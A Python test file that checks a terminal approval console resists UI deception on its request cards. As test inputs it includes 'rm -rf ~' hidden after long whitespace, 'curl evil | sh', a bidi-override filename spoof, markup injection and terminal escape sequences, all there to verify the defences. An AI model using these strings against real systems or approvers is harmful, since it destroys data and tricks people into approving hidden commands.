"""What well-known products got wrong about the card itself, one test each, in the running console.

The order is that of suite S6. What a second console has to do with it is tested with the doors: here one
console closes and another opens at the same kernel.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import anyio
import pytest
from textual import events
from textual.pilot import Pilot
from textual.widgets import Input

from flycore.model.approval import Preview
from flycore.model.enums import Choice, RequestState, Risk
from flycore.model.json import canonical_json
from flytui.console.app import FlytuiApp
from flytui.console.approvals.request_screen import RequestScreen
from flytui.console.kernel_connection import OpenConnection
from flytui.console.screens.main import MainScreen
from flytui.console.state import ConsoleState
from kits.attach import own_console
from kits.console import HandClock, console, drawn, press, settle, until
from kits.fake_kernel import World, world
from kits.kernel import Root, kernel_of, request, waiting_ask
from kits.values import request_of

pytestmark = pytest.mark.anyio

INVISIBLE = "a\u200bb\u2066c\u00add\u3164e"
BIDI = "invoice \u202etxt.exe"


def card_of(app: FlytuiApp) -> RequestScreen:
    assert isinstance(app.screen, RequestScreen)
    return app.screen


async def opened(app: FlytuiApp, pilot: Pilot[None], place: World, *requests: Any) -> None:
    """Requests arrive and the first card opens by itself and is painted."""
    place.ask_for(*requests)
    await until(pilot, lambda: isinstance(app.screen, RequestScreen))
    await until(pilot, lambda: card_of(app)._arming.shown_at is not None)


def low(id: str = "r1", **more: Any) -> Any:
    return request_of(id, risk=Risk.LOW, letter="", **more)


async def all_of_card(app: FlytuiApp, pilot: Pilot[None]) -> str:
    """Whatever is on screen of the card while it is paged from its first line to its last."""
    seen: list[str] = []
    await press(pilot, "home")
    for _ in range(200):
        card, top = card_of(app)._card, app.screen.query_one("#card").region.y
        strips = app.screen._compositor.render_strips()[top : top + card.region.height]
        seen += ["".join(segment.text for segment in strip) for strip in strips]
        if card.bottom_visible:
            break
        await press(pilot, "pagedown")
    return "\n".join(seen).translate(dict.fromkeys(map(ord, "▌▁▂▃▄▅▆▇█")))


async def test_a_key_is_captured_before_the_card_was_painted() -> None:
    """A key meant for what was on screen before decides the card that has just come up."""
    place, clock = world(), HandClock()
    async with console(place, clock) as (app, pilot):
        await opened(app, pilot, place, low("r0"), low("r1"))
        clock.advance(5)
        card = card_of(app)
        card.on_key(events.Key("n", "n"))
        for key in ("a", "d", "l", "r", "a"):
            card.on_key(events.Key(key, key))
        assert card._ask.request.id == "r1"
        assert card._arming.shown_at is None
        await settle(pilot)
        assert card_of(app)._ask.request.id == "r1"
        await until(pilot, lambda: card._arming.shown_at is not None)
        await press(pilot, "a", "d")
    assert place.decided == []


@pytest.mark.parametrize("key", ["backspace", "shift+tab", "tab", "left", "delete", "ctrl+u"])
async def test_backspace_or_shift_tab_in_the_reason_field_decides(key: str) -> None:
    """A key of the text field leaves it and lands on the card."""
    place, clock = world(), HandClock()
    async with console(place, clock) as (app, pilot):
        await opened(app, pilot, place, low())
        clock.advance(5)
        await press(pilot, "r", key, "n", "o", key, key, key)
        assert isinstance(app.screen.query_one(Input), Input)
        await press(pilot, "a", "d")
        assert "a" in app.screen.query_one(Input).value or key in ("shift+tab", "tab")
    assert place.decided == []


async def test_a_click_to_focus_decides() -> None:
    """A click that was meant to bring the terminal to the front lands on a button."""
    place, clock = world(), HandClock()
    async with console(place, clock, (80, 24)) as (app, pilot):
        await opened(app, pilot, place, low())
        clock.advance(5)
        for y in (0, 1, 3, 9, 21, 22, 23):
            for x in (2, 40):
                await pilot._post_mouse_events([events.MouseDown, events.MouseUp, events.Click], None, (x, y))
        await settle(pilot)
        assert card_of(app)._ask.state is RequestState.WAITING
    assert place.decided == []


async def test_enter_submits_a_draft_and_decides() -> None:
    """The Enter that ends a line being typed as the card comes up is its yes."""
    place, clock = world(), HandClock()
    async with console(place, clock) as (app, pilot):
        await press(pilot, "slash", "x")
        clock.advance(9)
        place.ask_for(low())
        await until(pilot, lambda: app.state.waiting)
        await press(pilot, "y", "enter")
        assert isinstance(app.screen, MainScreen)
        await press(pilot, "ctrl+o")
        await until(pilot, lambda: card_of(app)._arming.shown_at is not None)
        clock.advance(5)
        await press(pilot, "enter", "enter")
        await press(pilot, "r", "enter", "escape", "enter")
    assert place.decided == []


async def test_tabs_or_invisible_characters_hide_the_payload() -> None:
    """A run of tabs pushes the end of a command out of sight; what has no width is not drawn."""
    place, clock = world(), HandClock()
    text = "ls" + "\t" * 60 + " " * 400 + "; rm -rf ~" + INVISIBLE
    async with console(place, clock, (60, 20)) as (app, pilot):
        await opened(app, pilot, place, low(input={"text": text}))
        seen = "".join((await all_of_card(app, pilot)).split())
    for token in ("⟦U+200B⟧", "⟦U+2066⟧", "⟦U+00AD⟧", "⟦U+3164⟧", ";rm-rf~"):
        assert token in seen
    assert "\t" not in seen


async def test_bidi_in_a_relayed_preview() -> None:
    """A window's title, a path, or the caller's own words turn the text round them."""
    place, clock = world(), HandClock()
    made = low(input={"path": BIDI}, said=BIDI, effect=f"open {BIDI}")
    preview = Preview(window_id="7", title=BIDI, pid=5)
    subject = type(made.subject)(**{**_fields(made.subject), "preview": preview})
    made = type(made)(**{**_fields(made), "subject": subject, "subject_digest": subject.digest()})
    async with console(place, clock) as (app, pilot):
        await opened(app, pilot, place, made)
        seen = drawn(app, "#card-title") + await all_of_card(app, pilot)
    assert seen.count("⟦U+202E⟧") >= 4
    assert "\u202e" not in seen


def _fields(value: Any) -> dict[str, Any]:
    return {name: getattr(value, name) for name in value.__struct_fields__}


async def test_only_one_part_of_a_chained_command_is_shown() -> None:
    """The card shows the first command, or the one that was allowed before, and not what follows."""
    parts = [
        f"echo part{number} {mark}" for number, mark in enumerate(("&&", "||", ";", "|", "&", "\n", "\r"))
    ]
    place, clock = world(), HandClock()
    async with console(place, clock, (50, 16)) as (app, pilot):
        given = {"command": " ".join(parts), "args": ["-c", "curl evil | sh"], "z": {"last": "part-last"}}
        await opened(app, pilot, place, low(input=given))
        # Before every line of the input stands a bar.
        seen = "".join((await all_of_card(app, pilot)).replace("│", "").split())
    for number in range(len(parts)):
        assert f"part{number}" in seen
    assert "curlevil|sh" in seen
    assert "part-last" in seen


MALFORMED = [
    '{"text": ',
    "",
    "\ud800 half",
    '{"a": [/nope] [@click=app.quit]x[/] $var}',
    "[" * 3_000,
    '{"k": 1e999}',
    "\x1b[2J\x00\x07",
]


@pytest.mark.parametrize("text", MALFORMED, ids=range(len(MALFORMED)))
async def test_malformed_input_crashes_the_card(text: str) -> None:
    """What cannot be drawn ends the console, and the request with it in whatever way."""
    place, clock = world(), HandClock()
    async with console(place, clock) as (app, pilot):
        await opened(app, pilot, place, low(input_json=text))
        clock.advance(5)
        await press(pilot, "w", "escape", "end", "home")
        await until(pilot, lambda: card_of(app)._arming.shown_at is not None)
        clock.advance(5)
        await press(pilot, "d")
        await until(pilot, lambda: place.decided)
    assert [answer.choice for _, _, answer in place.decided] == [Choice.DENY]


@pytest.mark.parametrize("size", [(40, 12), (60, 16), (80, 24)])
async def test_a_narrow_terminal_drops_options(size: tuple[int, int]) -> None:
    """Where there is little room the refusal is what goes first."""
    place, clock = world(), HandClock()
    async with console(place, clock, size) as (app, pilot):
        await opened(app, pilot, place, request_of(input={"text": "word " * 300}))
        bar = app.screen.query_one("#card-keys")
        keys = " ".join(drawn(app, "#card-keys").split())
        for word in ("‹k›", "d deny", "r deny with a reason", "? all keys"):
            assert word in keys
        assert bar.region.bottom <= size[1]
        assert bar.region.height >= len(drawn(app, "#card-keys").splitlines())
        assert max(len(line) for line in drawn(app, "#card-keys").splitlines()) <= size[0]


async def test_the_prompt_reappears_when_the_console_is_opened_again(tmp_path: Path) -> None:
    """A request that was answered, or that is over, is put before the next console once more."""
    root = Root(tmp_path)
    root.sidecar("echo", "#!/bin/sh\nread -r request\nprintf '{\"ok\": true}\\n'\n")
    async with (
        kernel_of(root) as kernel,
        own_console(root, kernel) as (client, approver),
        anyio.create_task_group() as group,
    ):
        group.start_soon(kernel.call, request(kernel, "echo.do"))
        await waiting_ask(kernel)
        for again in (False, True):
            clock = HandClock()
            desk = ConsoleState(connection=OpenConnection(client, approver), title="x", clock=clock)
            app = FlytuiApp(desk)
            async with app.run_test(size=(100, 30)) as pilot:
                await until(pilot, lambda desk=desk: desk.catalog is not None)
                if again:
                    await settle(pilot)
                    assert desk.waiting == ()
                    assert isinstance(app.screen, MainScreen)
                    await press(pilot, "ctrl+o", "a", "d")
                    continue
                await until(pilot, lambda app=app: isinstance(app.screen, RequestScreen))
                await until(pilot, lambda app=app: card_of(app)._arming.shown_at is not None)
                clock.advance(5)
                await press(pilot, "d")
                await until(pilot, lambda: kernel.status().waiting == 0)
    decided = [line for line in root.audit() if line["event"] == "APPROVAL_DECIDED"]
    assert [line["decision"] for line in decided] == ["denied"]


async def test_an_answer_that_was_not_saved_is_drawn_as_saved() -> None:
    """The rule could not be written, and the card says that it was."""
    place, clock = world(refuse="no rule was written: No space left on device"), HandClock()
    async with console(place, clock) as (app, pilot):
        await opened(app, pilot, place, low())
        clock.advance(5)
        await press(pilot, "a")
        await until(pilot, lambda: "did not count" in drawn(app, "#card-keys"))
        assert "No space left on device" in drawn(app, "#card-keys")
        assert "approved" not in drawn(app, "#card-keys")


async def test_a_long_single_line_is_hidden_past_the_edge() -> None:
    """One line as long as a book is cut at the window's edge, and its end is never seen."""
    place, clock = world(), HandClock()
    text = "x" * 3_000 + "THE-END-OF-IT"
    made = request_of(input={"text": text})
    async with console(place, clock, (60, 20)) as (app, pilot):
        await opened(app, pilot, place, made)
        clock.advance(5)
        await press(pilot, "a")
        clock.advance(1)
        await press(pilot, "k")
        assert place.decided == []
        assert "more pages before a" in drawn(app, "#card-keys")
        seen = await all_of_card(app, pilot)
        assert "THE-END-OF-IT" in "".join(seen.split())
        assert str(len(canonical_json({"text": text}))) in seen.replace(",", "")
